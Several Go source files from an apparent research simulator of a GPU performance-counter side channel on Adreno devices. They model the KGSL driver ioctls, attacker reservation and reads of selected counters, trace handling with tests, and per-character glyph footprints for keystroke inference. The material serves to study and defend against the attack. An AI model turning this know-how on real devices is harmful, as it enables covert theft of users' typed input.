	Obfuscate(k adreno.CounterKey, value uint64, t sim.Time) uint64
}

// Errors returned by the simulated driver, mirroring kernel errnos.
// ErrBusy, ErrInval (when transient), ErrNotReserved and ErrClosed are the
// retryable family the fault plane (internal/fault) injects and the
// sampler's retry policy recovers from; the rest are terminal.
var (
	ErrPerm         = errors.New("kgsl: EPERM: operation not permitted")
	ErrBusy         = errors.New("kgsl: EBUSY: device or counter busy")
	ErrInval        = errors.New("kgsl: EINVAL: invalid argument")
	ErrNoEnt        = errors.New("kgsl: ENOENT: no such counter")
	ErrNotReserved  = errors.New("kgsl: EINVAL: counter not reserved (call PERFCOUNTER_GET first)")
	ErrBadRequest   = errors.New("kgsl: ENOTTY: unknown ioctl request")
	ErrClosed       = errors.New("kgsl: EBADF: file closed")
	ErrDeviceAccess = errors.New("kgsl: EACCES: open denied by SELinux policy")
)

// Device is the simulated /dev/kgsl-3d0.
type Device struct {
	gpu        *adreno.GPU
	policy     Policy
	obfuscator Obfuscator
	// ReadLatency models CPU scheduling delay between the attacker issuing
	// an ioctl and the kernel sampling the register. Nil means no delay.
	ReadLatency func(t sim.Time) sim.Time
	// OpenDenied simulates an SELinux policy that blocks opening the
	// device file entirely.
	OpenDenied bool

	reservations map[adreno.CounterKey]int
	ioctlCount   uint64
	// metrics, when non-nil, receives per-request ioctl counts and an
	// error taxonomy (kgsl.ioctl.* / kgsl.err.*). Counters are pure
	// aggregates, so telemetry never perturbs the simulated timeline.
	metrics *obs.Metrics
}

// NewDevice wraps a GPU in a device file.
func NewDevice(gpu *adreno.GPU) *Device {
	return &Device{gpu: gpu, reservations: make(map[adreno.CounterKey]int)}
}

// SetPolicy installs an access-control policy (nil = allow all).
func (d *Device) SetPolicy(p Policy) { d.policy = p }

// SetObfuscator installs a counter-value obfuscator (nil = identity).
func (d *Device) SetObfuscator(o Obfuscator) { d.obfuscator = o }

// SetMetrics routes ioctl request counts and the driver error taxonomy
// into a telemetry registry (nil disables, the default).
func (d *Device) SetMetrics(m *obs.Metrics) { d.metrics = m }

// ioctlMetricName maps a request code onto its counter name; unknown
// codes are the attack-surface probes the §9 defenses care about.
func ioctlMetricName(request uint32) string {
	switch request {
	case IoctlPerfcounterGet:
		return "kgsl.ioctl.perfcounter_get"
	case IoctlPerfcounterPut:
		return "kgsl.ioctl.perfcounter_put"
	case IoctlPerfcounterRead:
		return "kgsl.ioctl.perfcounter_read"
	case IoctlPerfcounterQuery:
		return "kgsl.ioctl.perfcounter_query"
	default:
		return "kgsl.ioctl.unknown"
	}
}

// errMetricName classifies a driver error into its errno-taxonomy
// counter, mirroring the Errors block above.
func errMetricName(err error) string {
	switch {
	case errors.Is(err, ErrNotReserved):
		return "kgsl.err.not_reserved"
	case errors.Is(err, ErrPerm):
		return "kgsl.err.perm"
	case errors.Is(err, ErrBusy):
		return "kgsl.err.busy"
	case errors.Is(err, ErrInval):
		return "kgsl.err.inval"
	case errors.Is(err, ErrNoEnt):
		return "kgsl.err.noent"
	case errors.Is(err, ErrBadRequest):
		return "kgsl.err.bad_request"
	case errors.Is(err, ErrClosed):
		return "kgsl.err.closed"
	case errors.Is(err, ErrDeviceAccess):
		return "kgsl.err.device_access"
	default:
		return "kgsl.err.other"
	}
}

// GPU exposes the underlying GPU (victim-side wiring only).
func (d *Device) GPU() *adreno.GPU { return d.gpu }

// IoctlCount reports how many ioctl calls the device has served; the
// malware-detection discussion (§9.1) uses it.
func (d *Device) IoctlCount() uint64 { return d.ioctlCount }

// BusyPercentage models /sys/class/kgsl/kgsl-3d0/gpu_busy_percentage over
// the 100 ms window preceding t.
func (d *Device) BusyPercentage(t sim.Time) float64 {
	const window = 100 * sim.Millisecond
	t0 := t - window
	if t0 < 0 {
		t0 = 0
	}
	return 100 * d.gpu.BusyFraction(t0, t)
}

// File is an open handle on the device, bound to a process context.
type File struct {
	dev    *Device
	ctx    ProcContext
	closed bool
}

// Open opens the device file for a process. Unprivileged apps succeed
// unless an SELinux open-deny policy is active — the core enabler of the
// attack (§4): the device file must be accessible to user-space drivers.
func (d *Device) Open(ctx ProcContext) (*File, error) {
	if d.OpenDenied {
		return nil, ErrDeviceAccess
	}
	return &File{dev: d, ctx: ctx}, nil
}

// Close invalidates the handle.
func (f *File) Close() error {
	f.closed = true
	return nil
}

// Ioctl dispatches a request at simulated time t. arg must be a pointer to
// the request's struct type.
func (f *File) Ioctl(t sim.Time, request uint32, arg any) error {
	err := f.ioctl(t, request, arg)
	if m := f.dev.metrics; m != nil {
		m.Add(ioctlMetricName(request), 1)
		if err != nil {
			m.Add(errMetricName(err), 1)
		}
	}
	return err
}

func (f *File) ioctl(t sim.Time, request uint32, arg any) error {
	if f.closed {
		return ErrClosed
	}
	f.dev.ioctlCount++
	switch request {
	case IoctlPerfcounterGet:
		get, ok := arg.(*PerfcounterGet)
		if !ok {
			return ErrInval
		}
		return f.perfcounterGet(get)
	case IoctlPerfcounterPut:
		put, ok := arg.(*PerfcounterPut)
		if !ok {
			return ErrInval
		}
		return f.perfcounterPut(put)
	case IoctlPerfcounterRead:
		rd, ok := arg.(*PerfcounterRead)
		if !ok {
			return ErrInval
		}
		return f.perfcounterRead(t, rd)
	case IoctlPerfcounterQuery:
		q, ok := arg.(*PerfcounterQuery)
		if !ok {
			return ErrInval
		}
		return f.perfcounterQuery(q)
	default:
		return ErrBadRequest
	}
}

func (f *File) perfcounterGet(get *PerfcounterGet) error {
	k := adreno.CounterKey{Group: get.GroupID, Countable: get.Countable}
	if _, ok := adreno.CounterString(k); !ok {
		return ErrNoEnt
	}
	f.dev.reservations[k]++
	// Return a plausible register offset, as the real driver does.
	get.OffsetLo = 0xA000 + get.GroupID*0x100 + get.Countable*8
	get.OffsetHi = get.OffsetLo + 4
	return nil
}

func (f *File) perfcounterPut(put *PerfcounterPut) error {
	k := adreno.CounterKey{Group: put.GroupID, Countable: put.Countable}
	if f.dev.reservations[k] == 0 {
		return ErrNotReserved
	}
	f.dev.reservations[k]--
	return nil
}

func (f *File) perfcounterRead(t sim.Time, rd *PerfcounterRead) error {
	if len(rd.Reads) == 0 {
		return ErrInval
	}
	if f.dev.ReadLatency != nil {
		t = f.dev.ReadLatency(t)
	}
	for i := range rd.Reads {
		k := adreno.CounterKey{Group: rd.Reads[i].GroupID, Countable: rd.Reads[i].Countable}
		if f.dev.reservations[k] == 0 {
			return ErrNotReserved
		}
		if f.dev.policy != nil {
			if err := f.dev.policy.AllowPerfcounterRead(f.ctx, k); err != nil {
				return fmt.Errorf("%w (counter %v)", err, k)
			}
		}
		v := f.dev.gpu.CounterValue(k, t)
		if f.dev.obfuscator != nil {
			v = f.dev.obfuscator.Obfuscate(k, v, t)
		}
		rd.Reads[i].Value = v
	}
	return nil
}

func (f *File) perfcounterQuery(q *PerfcounterQuery) error {
	cs := adreno.CountersInGroup(q.GroupID)
	if len(cs) == 0 {
		return ErrNoEnt
	}
	n := len(cs)
	if q.MaxCounters > 0 && int(q.MaxCounters) < n {
		n = int(q.MaxCounters)
	}
	q.Countables = append(q.Countables[:0], cs[:n]...)
	return nil
}

// ReserveSelected issues PERFCOUNTER_GET for every Table-1 counter,
// returning an error on the first failure. This is the attacker's setup
// step (Figure 10).
func (f *File) ReserveSelected(t sim.Time) error {
	for _, k := range adreno.Selected {
		get := PerfcounterGet{GroupID: k.Group, Countable: k.Countable}
		if err := f.Ioctl(t, IoctlPerfcounterGet, &get); err != nil {
			return fmt.Errorf("reserving %v: %w", k, err)
		}
	}
	return nil
}

// ReadSelected block-reads every Table-1 counter in one ioctl and returns
// the values in adreno.Selected order.
func (f *File) ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error) {
	var out [adreno.NumSelected]uint64
	rd := PerfcounterRead{Reads: make([]PerfcounterReadGroup, adreno.NumSelected)}
	for i, k := range adreno.Selected {
		rd.Reads[i].GroupID = k.Group
		rd.Reads[i].Countable = k.Countable
	}
	if err := f.Ioctl(t, IoctlPerfcounterRead, &rd); err != nil {
		return out, err
	}
	for i := range out {
		out[i] = rd.Reads[i].Value
	}
	return out, nil
}
