package trace

import (
	"bytes"
	"math"
	"strings"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/sim"
)

func timeAt(v int64) sim.Time { return sim.Time(v) }

func TestVecOps(t *testing.T) {
	var a, b Vec
	a[0], a[1] = 3, 4
	b[0] = 1
	if got := a.Add(b); got[0] != 4 || got[1] != 4 {
		t.Fatalf("Add = %v", got)
	}
	if got := a.Sub(b); got[0] != 2 {
		t.Fatalf("Sub = %v", got)
	}
	if got := a.Scale(2); got[1] != 8 {
		t.Fatalf("Scale = %v", got)
	}
	if d := a.Dist(Vec{}, Ones()); math.Abs(d-5) > 1e-9 {
		t.Fatalf("Dist = %v", d)
	}
	if !(Vec{}).IsZero() || a.IsZero() {
		t.Fatal("IsZero wrong")
	}
}

func TestVecWeightedDist(t *testing.T) {
	var a Vec
	a[3] = 10
	var w Vec
	w[3] = 0.1
	// Other weights zero -> treated as 1, but those dims are equal anyway.
	if d := a.Dist(Vec{}, w); math.Abs(d-1) > 1e-9 {
		t.Fatalf("weighted dist = %v", d)
	}
}

func mkTrace() *Trace {
	tr := &Trace{Interval: 8000}
	add := func(at int64, v0 uint64) {
		var s Sample
		s.At = timeAt(at)
		for i := range s.Values {
			s.Values[i] = 1000 + uint64(i)*10
		}
		s.Values[0] = v0
		tr.Append(s)
	}
	add(0, 100)
	add(8000, 100)  // no change
	add(16000, 150) // +50
	add(24000, 150) // no change
	add(32000, 175) // +25
	return tr
}

func TestDeltasSkipFlatSegments(t *testing.T) {
	tr := mkTrace()
	ds := tr.Deltas()
	if len(ds) != 2 {
		t.Fatalf("delta count = %d, want 2", len(ds))
	}
	if ds[0].V[0] != 50 || ds[1].V[0] != 25 {
		t.Fatalf("delta values = %v, %v", ds[0].V[0], ds[1].V[0])
	}
	if ds[0].At != timeAt(16000) {
		t.Fatalf("delta time = %v", ds[0].At)
	}
}

func TestCounterSeries(t *testing.T) {
	tr := mkTrace()
	ts, vs := tr.CounterSeries(0)
	if len(ts) != 5 || len(vs) != 5 {
		t.Fatal("series length wrong")
	}
	if vs[2] != 150 {
		t.Fatalf("series value = %d", vs[2])
	}
}

func TestCSVRoundTrip(t *testing.T) {
	tr := mkTrace()
	var buf bytes.Buffer
	if err := tr.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ") {
		t.Fatal("CSV header missing counter names")
	}
	back, err := ReadCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if back.Len() != tr.Len() {
		t.Fatalf("round trip length %d != %d", back.Len(), tr.Len())
	}
	for i := range tr.Samples {
		if back.Samples[i] != tr.Samples[i] {
			t.Fatalf("sample %d differs", i)
		}
	}
}

func TestReadCSVErrors(t *testing.T) {
	if _, err := ReadCSV(strings.NewReader("")); err == nil {
		t.Fatal("empty csv accepted")
	}
	if _, err := ReadCSV(strings.NewReader("a,b\n1,2\n")); err == nil {
		t.Fatal("wrong column count accepted")
	}
	bad := "time_us" + strings.Repeat(",c", adreno.NumSelected) + "\nxx" + strings.Repeat(",1", adreno.NumSelected) + "\n"
	if _, err := ReadCSV(strings.NewReader(bad)); err == nil {
		t.Fatal("bad timestamp accepted")
	}
}
