package trace

import (
	"bytes"
	"strings"
	"testing"
)

// FuzzReadCSV hardens the trace parser: arbitrary input never panics, and
// any trace that parses must survive a write/read round trip unchanged.
func FuzzReadCSV(f *testing.F) {
	var buf bytes.Buffer
	tr := mkTrace()
	_ = tr.WriteCSV(&buf)
	f.Add(buf.String())
	f.Add("")
	f.Add("time_us,a\n1,2\n")
	f.Add("time_us" + strings.Repeat(",c", 11) + "\n5" + strings.Repeat(",1", 11) + "\n")
	f.Fuzz(func(t *testing.T, doc string) {
		parsed, err := ReadCSV(strings.NewReader(doc))
		if err != nil {
			return
		}
		var out bytes.Buffer
		if err := parsed.WriteCSV(&out); err != nil {
			t.Fatalf("reserializing parsed trace: %v", err)
		}
		back, err := ReadCSV(&out)
		if err != nil {
			t.Fatalf("round trip failed: %v", err)
		}
		if back.Len() != parsed.Len() {
			t.Fatalf("round trip lost samples: %d vs %d", back.Len(), parsed.Len())
		}
	})
}
