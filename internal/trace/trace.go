// Package trace holds performance counter traces: timestamped samples of
// the 11 selected counters, delta extraction (the "PC value changes" the
// paper classifies), feature vectors, and CSV persistence for offline
// analysis.
package trace

import (
	"encoding/csv"
	"fmt"
	"io"
	"math"
	"strconv"

	"gpuleak/internal/adreno"
	"gpuleak/internal/sim"
)

// Width is the dimensionality of the shared feature space. Every side
// channel maps its observations into this fixed-width container: the KGSL
// channel fills all Width dimensions with the Table-1 counters, narrower
// channels fill a leading prefix and leave the rest zero. Distance on a
// dimension that is zero in both operands contributes nothing, so the
// fixed width costs narrow channels no discriminative power.
const Width = adreno.NumSelected

// Raw is one raw counter read in the shared feature space, the uint64
// counterpart of Vec. Channel probes return it from ReadSelected.
type Raw = [Width]uint64

// Vec is one observation in the attack's feature space: the per-counter
// change between two reads, in adreno.Selected (Table-1) order for the
// KGSL channel, channel-defined for others.
type Vec [adreno.NumSelected]float64

// Add returns v + o.
func (v Vec) Add(o Vec) Vec {
	for i := range v {
		v[i] += o[i]
	}
	return v
}

// Sub returns v - o.
func (v Vec) Sub(o Vec) Vec {
	for i := range v {
		v[i] -= o[i]
	}
	return v
}

// Scale returns v * f.
func (v Vec) Scale(f float64) Vec {
	for i := range v {
		v[i] *= f
	}
	return v
}

// Dist returns the weighted Euclidean distance to o. A nil-like zero
// weight is treated as 1.
func (v Vec) Dist(o Vec, w Vec) float64 {
	var ss float64
	for i := range v {
		wi := w[i]
		if wi == 0 {
			wi = 1
		}
		d := (v[i] - o[i]) * wi
		ss += d * d
	}
	return math.Sqrt(ss)
}

// Norm returns the weighted Euclidean norm.
func (v Vec) Norm(w Vec) float64 { return v.Dist(Vec{}, w) }

// IsZero reports whether every component is zero.
func (v Vec) IsZero() bool { return v == Vec{} }

// Ones returns an all-ones weight vector.
func Ones() Vec {
	var v Vec
	for i := range v {
		v[i] = 1
	}
	return v
}

// Sample is one read of all selected counters.
type Sample struct {
	At     sim.Time
	Values [adreno.NumSelected]uint64
}

// Trace is a time-ordered series of counter samples.
type Trace struct {
	Interval sim.Time
	Samples  []Sample
}

// Append adds a sample (must be chronologically ordered).
func (t *Trace) Append(s Sample) { t.Samples = append(t.Samples, s) }

// Len returns the number of samples.
func (t *Trace) Len() int { return len(t.Samples) }

// Delta is one non-zero counter change between consecutive samples,
// stamped with the time of the later sample.
type Delta struct {
	At sim.Time
	V  Vec
	// Gap is the time between the two samples the delta spans. In a
	// fault-free trace it equals the polling interval; a larger gap means
	// ticks were dropped or late and the delta may aggregate several
	// distinct screen events — the online engine's gap-aware segmentation
	// keys off it.
	Gap sim.Time
}

// Deltas extracts the non-zero changes between consecutive samples — the
// "PC value changes" of §3.4. Samples with no change produce nothing,
// matching the flat segments of Figure 5.
func (t *Trace) Deltas() []Delta {
	var out []Delta
	for i := 1; i < len(t.Samples); i++ {
		var v Vec
		changed := false
		for j := range v {
			d := float64(t.Samples[i].Values[j]) - float64(t.Samples[i-1].Values[j])
			v[j] = d
			if d != 0 {
				changed = true
			}
		}
		if changed {
			out = append(out, Delta{
				At:  t.Samples[i].At,
				V:   v,
				Gap: t.Samples[i].At - t.Samples[i-1].At,
			})
		}
	}
	return out
}

// CounterSeries extracts the raw time series of one counter by its index
// in adreno.Selected.
func (t *Trace) CounterSeries(idx int) ([]sim.Time, []uint64) {
	ts := make([]sim.Time, len(t.Samples))
	vs := make([]uint64, len(t.Samples))
	for i, s := range t.Samples {
		ts[i] = s.At
		vs[i] = s.Values[idx]
	}
	return ts, vs
}

// WriteCSV persists the trace with a header of counter string identifiers.
func (t *Trace) WriteCSV(w io.Writer) error {
	cw := csv.NewWriter(w)
	header := make([]string, 0, adreno.NumSelected+1)
	header = append(header, "time_us")
	for _, k := range adreno.Selected {
		s, _ := adreno.CounterString(k)
		header = append(header, s)
	}
	if err := cw.Write(header); err != nil {
		return err
	}
	row := make([]string, adreno.NumSelected+1)
	for _, s := range t.Samples {
		row[0] = strconv.FormatInt(int64(s.At), 10)
		for i, v := range s.Values {
			row[i+1] = strconv.FormatUint(v, 10)
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// ReadCSV parses a trace written by WriteCSV.
func ReadCSV(r io.Reader) (*Trace, error) {
	cr := csv.NewReader(r)
	rows, err := cr.ReadAll()
	if err != nil {
		return nil, fmt.Errorf("trace: reading csv: %w", err)
	}
	if len(rows) == 0 {
		return nil, fmt.Errorf("trace: empty csv")
	}
	if len(rows[0]) != adreno.NumSelected+1 {
		return nil, fmt.Errorf("trace: want %d columns, got %d", adreno.NumSelected+1, len(rows[0]))
	}
	t := &Trace{}
	for _, row := range rows[1:] {
		var s Sample
		at, err := strconv.ParseInt(row[0], 10, 64)
		if err != nil {
			return nil, fmt.Errorf("trace: bad timestamp %q: %w", row[0], err)
		}
		s.At = sim.Time(at)
		for i := 0; i < adreno.NumSelected; i++ {
			v, err := strconv.ParseUint(row[i+1], 10, 64)
			if err != nil {
				return nil, fmt.Errorf("trace: bad value %q: %w", row[i+1], err)
			}
			s.Values[i] = v
		}
		t.Append(s)
	}
	return t, nil
}
