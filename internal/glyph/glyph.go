// Package glyph implements the vector pseudo-font used by the simulated
// Android UI. Each character is a set of axis-aligned strokes in a
// normalized em square plus a count of curved segments. When a glyph is
// rendered at some pixel size the strokes become rectangles and the curves
// tessellate into additional triangles, so every character produces a
// distinct, stable amount of rasterized pixels, primitives and tile
// coverage — exactly the per-key uniqueness the GPU side channel exploits.
//
// The paper relies on real fonts rendered by Skia; only two properties of
// those fonts matter to the attack: (1) different characters cover
// different numbers of pixels/tiles, and (2) the coverage of a given
// character is identical every time it is drawn. The stroke tables below
// preserve both, including the paper's observation that tiny punctuation
// ('.', ',', ':', '\”) produces the least overdraw and is hardest to infer.
package glyph

import (
	"sort"

	"gpuleak/internal/geom"
)

// Glyph is a character shape: axis-aligned strokes in the unit em square
// plus the number of curved segments (each tessellates into extra
// triangles at render time).
type Glyph struct {
	Strokes []geom.RectF
	Curves  int
}

// stroke width in em units.
const strokeW = 0.13

// vs returns a vertical stroke centered on x spanning [y0, y1].
func vs(x, y0, y1 float64) geom.RectF {
	return geom.RectF{X0: x - strokeW/2, Y0: y0, X1: x + strokeW/2, Y1: y1}
}

// hs returns a horizontal stroke centered on y spanning [x0, x1].
func hs(y, x0, x1 float64) geom.RectF {
	return geom.RectF{X0: x0, Y0: y - strokeW/2, X1: x1, Y1: y + strokeW/2}
}

// dg approximates a diagonal from (x0,y0) to (x1,y1) with a three-step
// staircase of stroke-width rectangles. Tile-based accounting of a
// staircase closely matches conservative rasterization of a thin diagonal.
func dg(x0, y0, x1, y1 float64) []geom.RectF {
	out := make([]geom.RectF, 0, 3)
	for i := 0; i < 3; i++ {
		fx0 := x0 + (x1-x0)*float64(i)/3
		fx1 := x0 + (x1-x0)*float64(i+1)/3
		fy0 := y0 + (y1-y0)*float64(i)/3
		fy1 := y0 + (y1-y0)*float64(i+1)/3
		if fx1 < fx0 {
			fx0, fx1 = fx1, fx0
		}
		if fy1 < fy0 {
			fy0, fy1 = fy1, fy0
		}
		// Ensure at least stroke width in each dimension.
		if fx1-fx0 < strokeW {
			c := (fx0 + fx1) / 2
			fx0, fx1 = c-strokeW/2, c+strokeW/2
		}
		if fy1-fy0 < strokeW {
			c := (fy0 + fy1) / 2
			fy0, fy1 = c-strokeW/2, c+strokeW/2
		}
		out = append(out, geom.RectF{X0: fx0, Y0: fy0, X1: fx1, Y1: fy1})
	}
	return out
}

// dot returns a small square centered at (x, y).
func dot(x, y float64) geom.RectF {
	const r = 0.07
	return geom.RectF{X0: x - r, Y0: y - r, X1: x + r, Y1: y + r}
}

func cat(parts ...[]geom.RectF) []geom.RectF {
	var out []geom.RectF
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func s(rs ...geom.RectF) []geom.RectF { return rs }

// table maps every character the simulated keyboards can produce to its
// shape. Lowercase letters live in the x-height band [0.35, 0.95];
// ascenders/capitals start at 0.05; descenders are folded into the band.
var table = map[rune]Glyph{
	// Lowercase.
	'a': {cat(s(vs(0.70, 0.40, 0.95), hs(0.40, 0.30, 0.70), hs(0.95, 0.30, 0.70), hs(0.66, 0.30, 0.70), vs(0.28, 0.66, 0.95))), 2},
	'b': {cat(s(vs(0.28, 0.05, 0.95), hs(0.40, 0.28, 0.70), hs(0.95, 0.28, 0.70), vs(0.72, 0.40, 0.95))), 2},
	'c': {cat(s(hs(0.40, 0.32, 0.72), hs(0.95, 0.32, 0.72), vs(0.28, 0.40, 0.95))), 2},
	'd': {cat(s(vs(0.72, 0.05, 0.95), hs(0.40, 0.32, 0.72), hs(0.95, 0.30, 0.72), vs(0.28, 0.42, 0.95))), 2},
	'e': {cat(s(vs(0.28, 0.40, 0.95), hs(0.40, 0.28, 0.72), hs(0.66, 0.28, 0.72), hs(0.95, 0.28, 0.72), vs(0.72, 0.40, 0.66))), 2},
	'f': {cat(s(vs(0.45, 0.05, 0.95), hs(0.40, 0.25, 0.75), hs(0.12, 0.45, 0.72))), 2},
	'g': {cat(s(vs(0.72, 0.40, 0.95), hs(0.40, 0.30, 0.72), hs(0.70, 0.30, 0.72), vs(0.28, 0.40, 0.70), hs(0.95, 0.30, 0.72))), 3},
	'h': {cat(s(vs(0.28, 0.05, 0.95), hs(0.42, 0.28, 0.72), vs(0.72, 0.42, 0.95))), 1},
	'i': {cat(s(vs(0.50, 0.40, 0.95), dot(0.50, 0.22))), 0},
	'j': {cat(s(vs(0.58, 0.40, 0.92), dot(0.58, 0.22), hs(0.92, 0.30, 0.58))), 1},
	'k': {cat(s(vs(0.28, 0.05, 0.95)), dg(0.32, 0.68, 0.72, 0.40), dg(0.36, 0.66, 0.74, 0.95)), 0},
	'l': {cat(s(vs(0.50, 0.05, 0.95))), 0},
	'm': {cat(s(vs(0.22, 0.40, 0.95), vs(0.50, 0.44, 0.95), vs(0.78, 0.44, 0.95), hs(0.42, 0.22, 0.78))), 2},
	'n': {cat(s(vs(0.28, 0.40, 0.95), vs(0.72, 0.44, 0.95), hs(0.42, 0.28, 0.72))), 1},
	'o': {cat(s(vs(0.28, 0.42, 0.93), vs(0.72, 0.42, 0.93), hs(0.40, 0.30, 0.70), hs(0.95, 0.30, 0.70))), 4},
	'p': {cat(s(vs(0.28, 0.40, 0.95), hs(0.40, 0.28, 0.70), hs(0.72, 0.28, 0.70), vs(0.72, 0.40, 0.72))), 2},
	'q': {cat(s(vs(0.72, 0.40, 0.98), hs(0.40, 0.30, 0.72), hs(0.72, 0.30, 0.72), vs(0.28, 0.40, 0.72))), 3},
	'r': {cat(s(vs(0.32, 0.40, 0.95), hs(0.44, 0.32, 0.72))), 1},
	's': {cat(s(hs(0.40, 0.30, 0.72), hs(0.66, 0.30, 0.72), hs(0.95, 0.28, 0.70), vs(0.28, 0.40, 0.66), vs(0.72, 0.66, 0.95))), 2},
	't': {cat(s(vs(0.48, 0.12, 0.92), hs(0.40, 0.26, 0.72), hs(0.92, 0.48, 0.74))), 1},
	'u': {cat(s(vs(0.28, 0.38, 0.92), vs(0.72, 0.40, 0.95), hs(0.93, 0.28, 0.72))), 2},
	'v': {cat(dg(0.24, 0.40, 0.50, 0.95), dg(0.50, 0.95, 0.76, 0.40)), 0},
	'w': {cat(dg(0.16, 0.40, 0.34, 0.95), dg(0.34, 0.95, 0.50, 0.55), dg(0.50, 0.55, 0.66, 0.95), dg(0.66, 0.95, 0.84, 0.40)), 0},
	'x': {cat(dg(0.26, 0.40, 0.74, 0.95), dg(0.26, 0.95, 0.74, 0.40)), 0},
	'y': {cat(dg(0.26, 0.40, 0.50, 0.70), s(vs(0.62, 0.40, 0.95), hs(0.95, 0.34, 0.62))), 1},
	'z': {cat(s(hs(0.40, 0.28, 0.72), hs(0.95, 0.28, 0.72)), dg(0.28, 0.95, 0.72, 0.40)), 0},

	// Uppercase: larger band [0.05, 0.95], wider strokes.
	'A': {cat(dg(0.18, 0.95, 0.50, 0.05), dg(0.50, 0.05, 0.82, 0.95), s(hs(0.62, 0.30, 0.70))), 0},
	'B': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.70), hs(0.50, 0.25, 0.70), hs(0.95, 0.25, 0.70), vs(0.75, 0.05, 0.50), vs(0.78, 0.50, 0.95))), 4},
	'C': {cat(s(hs(0.08, 0.30, 0.78), hs(0.92, 0.30, 0.78), vs(0.22, 0.08, 0.92))), 2},
	'D': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.68), hs(0.95, 0.25, 0.68), vs(0.78, 0.12, 0.88))), 2},
	'E': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.78), hs(0.50, 0.25, 0.70), hs(0.95, 0.25, 0.78))), 0},
	'F': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.78), hs(0.50, 0.25, 0.70))), 0},
	'G': {cat(s(hs(0.08, 0.30, 0.78), hs(0.92, 0.30, 0.78), vs(0.22, 0.08, 0.92), vs(0.78, 0.55, 0.92), hs(0.55, 0.55, 0.78))), 2},
	'H': {cat(s(vs(0.25, 0.05, 0.95), vs(0.75, 0.05, 0.95), hs(0.50, 0.25, 0.75))), 0},
	'I': {cat(s(vs(0.50, 0.05, 0.95), hs(0.05, 0.30, 0.70), hs(0.95, 0.30, 0.70))), 0},
	'J': {cat(s(vs(0.65, 0.05, 0.90), hs(0.92, 0.30, 0.65), hs(0.05, 0.40, 0.85))), 1},
	'K': {cat(s(vs(0.25, 0.05, 0.95)), dg(0.30, 0.52, 0.78, 0.05), dg(0.34, 0.50, 0.80, 0.95)), 0},
	'L': {cat(s(vs(0.25, 0.05, 0.95), hs(0.95, 0.25, 0.78))), 0},
	'M': {cat(s(vs(0.18, 0.05, 0.95), vs(0.82, 0.05, 0.95)), dg(0.22, 0.05, 0.50, 0.55), dg(0.50, 0.55, 0.78, 0.05)), 0},
	'N': {cat(s(vs(0.22, 0.05, 0.95), vs(0.78, 0.05, 0.95)), dg(0.26, 0.05, 0.74, 0.95)), 0},
	'O': {cat(s(vs(0.22, 0.12, 0.88), vs(0.78, 0.12, 0.88), hs(0.08, 0.28, 0.72), hs(0.92, 0.28, 0.72))), 4},
	'P': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.70), hs(0.52, 0.25, 0.70), vs(0.75, 0.05, 0.52))), 2},
	'Q': {cat(s(vs(0.22, 0.12, 0.88), vs(0.78, 0.12, 0.88), hs(0.08, 0.28, 0.72), hs(0.92, 0.28, 0.72)), dg(0.58, 0.70, 0.85, 0.98)), 4},
	'R': {cat(s(vs(0.25, 0.05, 0.95), hs(0.05, 0.25, 0.70), hs(0.52, 0.25, 0.70), vs(0.75, 0.05, 0.52)), dg(0.45, 0.52, 0.80, 0.95)), 2},
	'S': {cat(s(hs(0.08, 0.28, 0.75), hs(0.50, 0.28, 0.72), hs(0.92, 0.25, 0.72), vs(0.22, 0.08, 0.50), vs(0.78, 0.50, 0.92))), 3},
	'T': {cat(s(hs(0.08, 0.15, 0.85), vs(0.50, 0.08, 0.95))), 0},
	'U': {cat(s(vs(0.22, 0.05, 0.88), vs(0.78, 0.05, 0.88), hs(0.92, 0.28, 0.72))), 2},
	'V': {cat(dg(0.18, 0.05, 0.50, 0.95), dg(0.50, 0.95, 0.82, 0.05)), 0},
	'W': {cat(dg(0.10, 0.05, 0.30, 0.95), dg(0.30, 0.95, 0.50, 0.40), dg(0.50, 0.40, 0.70, 0.95), dg(0.70, 0.95, 0.90, 0.05)), 0},
	'X': {cat(dg(0.20, 0.05, 0.80, 0.95), dg(0.20, 0.95, 0.80, 0.05)), 0},
	'Y': {cat(dg(0.20, 0.05, 0.50, 0.50), dg(0.50, 0.50, 0.80, 0.05), s(vs(0.50, 0.50, 0.95))), 0},
	'Z': {cat(s(hs(0.08, 0.22, 0.78), hs(0.92, 0.22, 0.78)), dg(0.25, 0.92, 0.75, 0.08)), 0},

	// Digits.
	'0': {cat(s(vs(0.25, 0.12, 0.88), vs(0.75, 0.12, 0.88), hs(0.08, 0.30, 0.70), hs(0.92, 0.30, 0.70)), dg(0.35, 0.70, 0.65, 0.30)), 4},
	'1': {cat(s(vs(0.55, 0.05, 0.95)), dg(0.35, 0.25, 0.55, 0.05)), 0},
	'2': {cat(s(hs(0.10, 0.28, 0.72), vs(0.75, 0.10, 0.45), hs(0.95, 0.25, 0.78)), dg(0.28, 0.92, 0.72, 0.48)), 2},
	'3': {cat(s(hs(0.08, 0.28, 0.72), hs(0.50, 0.35, 0.72), hs(0.92, 0.28, 0.72), vs(0.75, 0.08, 0.92))), 3},
	'4': {cat(s(vs(0.68, 0.05, 0.95), hs(0.62, 0.20, 0.82)), dg(0.25, 0.62, 0.65, 0.05)), 0},
	'5': {cat(s(hs(0.08, 0.25, 0.75), vs(0.25, 0.08, 0.48), hs(0.48, 0.25, 0.70), vs(0.75, 0.48, 0.90), hs(0.92, 0.25, 0.72))), 2},
	'6': {cat(s(vs(0.25, 0.15, 0.88), hs(0.10, 0.32, 0.72), hs(0.50, 0.28, 0.70), hs(0.92, 0.30, 0.70), vs(0.75, 0.50, 0.88))), 3},
	'7': {cat(s(hs(0.08, 0.22, 0.78)), dg(0.42, 0.95, 0.76, 0.10)), 0},
	'8': {cat(s(vs(0.25, 0.10, 0.90), vs(0.75, 0.10, 0.90), hs(0.08, 0.30, 0.70), hs(0.50, 0.30, 0.70), hs(0.92, 0.30, 0.70))), 5},
